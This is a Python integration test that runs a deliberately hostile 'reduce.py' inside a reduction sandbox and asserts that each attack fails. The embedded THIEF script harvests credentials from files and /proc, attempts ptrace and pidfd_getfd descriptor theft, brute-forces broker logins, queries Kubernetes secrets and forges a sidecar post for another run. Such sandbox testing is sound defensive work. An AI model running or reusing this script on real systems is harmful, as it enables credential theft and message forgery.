"""A reduce.py out to steal and forge, on the real node (issue 19, items 3 and 4).

The script reads every file and process it can reach for the broker's passwords,
logs in to the broker with whatever it found, calls the Kubernetes API, and tries
to post an outcome for another run through the pod's poster sidecar (its socket, or
the runner's session to it). Each attempt must fail, and the run's own single
outcome must still be right. The script reports what it tried; the test decides.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from autoreduce_common.broker_settings import BrokerSettings
from autoreduce_common.stomp_client import StompClient

from devstack.product import DispatcherProcess, Facility, run_message
from devstack.queues import QueueReader
from tests.harness.checks import count_outcomes, send

pytestmark = pytest.mark.integration

# Parameters arrive as the first lines (the script cannot be given arguments).
THIEF = r'''
BROKER_HOST, BROKER_PORT, API_URL, OTHER_RUN = {params!r}
import ctypes, json, os, socket, ssl, urllib.request

FOUND = {{}}  # path -> text of every small readable file, for the test to search
SKIP = ("/proc", "/sys", "/dev", "/isis", "/instrument", "/usr", "/opt", "/lib")


def attempt(fn):
    try:
        return "ALLOWED: " + str(fn())[:200]
    except Exception as error:
        return "refused (" + type(error).__name__ + ": " + str(error)[:120] + ")"


def read_all(top):
    for root, dirs, files in os.walk(top):
        if root.startswith(SKIP) and root != "/":
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP]
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.getsize(path) < 65536:
                    with open(path, errors="replace") as f:
                        FOUND[path] = f.read()
            except OSError:
                pass


def processes():
    """What /proc shows of every other process: its environment and open files."""
    seen = {{}}
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        seen[pid] = {{
            "cmdline": attempt(lambda: open(f"/proc/{{pid}}/cmdline").read().replace("\0", " ")),
            "environ": attempt(lambda: FOUND.setdefault(
                f"/proc/{{pid}}/environ", open(f"/proc/{{pid}}/environ").read())),
            "fds": attempt(lambda: os.listdir(f"/proc/{{pid}}/fd")),
            "mem": attempt(lambda: open(f"/proc/{{pid}}/mem", "rb").read(1)),
        }}
    return seen


def ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
        raise PermissionError("errno " + str(ctypes.get_errno()))
    return "attached"


def steal_fd(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(pid)
    fd = libc.syscall(438, pidfd, 3, 0)  # pidfd_getfd(pidfd, 3)
    if fd < 0:
        raise PermissionError("errno " + str(ctypes.get_errno()))
    return "got fd " + str(fd)


def stomp_login(user, password):
    raw = socket.create_connection((BROKER_HOST, BROKER_PORT), timeout=5)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(raw) as sock:
        frame = ("CONNECT\naccept-version:1.2\nhost:localhost\n"
                 f"login:{{user}}\npasscode:{{password}}\n\n\0")
        sock.sendall(frame.encode())
        return sock.recv(4096).split(b"\n")[0].decode()


def sidecar_post():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect("/run/autoreduce/poster/poster.sock")
        forged = {{"destination": "/queue/ReductionComplete",
                  "message": {{"run_number": OTHER_RUN}}, "headers": {{}}}}
        sock.sendall(json.dumps(forged).encode() + b"\n")
        return sock.recv(4096).decode()


def main(input_file, output_dir):
    for top in ("/", "/var/run/secrets", "/run", "/etc", "/tmp"):
        read_all(top)
    procs = processes()
    # Every short line of what it read is a password to try, the likeliest places first.
    likely = ("/etc/autoreduce", "/run", "/var/run", "/proc", "/tmp")
    candidates = []
    for path in sorted(FOUND, key=lambda p: not p.startswith(likely)):
        for line in FOUND[path].replace("\0", "\n").splitlines():
            if 6 <= len(line.strip()) <= 80 and line.strip() not in candidates:
                candidates.append(line.strip())
    users = ["autoreduce-runner", "autoreduce", "admin", ""]
    accepted = []
    tried = 0
    for password in candidates[:100] + [""]:
        for user in users:
            tried += 1
            if stomp_login(user, password).startswith("CONNECTED"):
                accepted.append(user)
    report = {{
        "uid": os.getuid(),
        "files_read": len(FOUND),
        "processes": procs,
        "ptrace": {{pid: attempt(lambda: ptrace(int(pid))) for pid in procs}},
        "pidfd_getfd": {{pid: attempt(lambda: steal_fd(int(pid))) for pid in procs}},
        "logins_tried": tried,
        "logins_accepted": accepted,
        "api": attempt(lambda: urllib.request.urlopen(urllib.request.Request(
            API_URL + "/api/v1/namespaces/default/secrets"), timeout=5,
            context=ssl._create_unverified_context()).status),
        "sidecar": attempt(sidecar_post),
    }}
    with open(os.path.join(output_dir, "found.json"), "w") as f:
        json.dump(FOUND, f)
    print("REPORT " + json.dumps(report))
'''


def test_a_script_finds_no_credential_and_cannot_post_for_another_run(
    start_dispatcher: Callable[..., DispatcherProcess], stomp: StompClient, broker: Any,
    broker_settings: BrokerSettings, reader: QueueReader, facility: Facility, kube: Any,
) -> None:
    host, port = broker_settings.host_and_ports()[0]
    api = kube.api_client().configuration.host
    start_dispatcher()
    script = THIEF.format(params=(host, port, api, 4242))
    send(stomp, broker_settings, run_message(facility=facility, instrument="WISH",
                                             rb=9200001, run=7, script=script))
    reader.wait_for(count_outcomes(broker_settings, 1), timeout=300)
    reader.settle(3)
    q = broker_settings.queues
    bodies = {queue: [json.loads(d.body) for d in reader.seen if d.destination == queue]
              for queue in (q.started, q.complete, q.error, q.skipped)}
    # The run's own single outcome, and nothing for the run it tried to forge.
    assert [b["run_number"] for b in bodies[q.started]] == [7]
    assert [b["run_number"] for b in bodies[q.complete]] == [7], bodies[q.error]
    assert not bodies[q.error] and not bodies[q.skipped]
    log = bodies[q.complete][0]["reduction_log"]
    report = json.loads(log.split("REPORT ", 1)[1].splitlines()[0])
    print(f"\nthe script read {report['files_read']} files, saw processes "
          f"{sorted(report['processes'])}, tried {report['logins_tried']} broker logins")
    assert report["files_read"] > 10, report  # it really looked
    assert report["logins_tried"] > 4 and report["logins_accepted"] == [], report
    assert report["sidecar"].startswith("refused"), report["sidecar"]
    assert not report["api"].startswith("ALLOWED"), report["api"]
    for pid, seen in report["processes"].items():
        for what in ("environ", "fds", "mem"):
            assert seen[what].startswith("refused"), (pid, what, seen)
        assert report["ptrace"][pid].startswith("refused"), (pid, report["ptrace"])
        assert report["pidfd_getfd"][pid].startswith("refused"), (pid, report["pidfd_getfd"])
    # Neither password was anywhere the script could read.
    (found_file,) = Path(facility.output).rglob("found.json")
    found = json.loads(found_file.read_text())
    for identity in (broker.dispatcher, broker.runner):
        leaks = [path for path, text in found.items() if identity.password in text]
        assert not leaks, f"{identity.user}'s password readable at {leaks}"
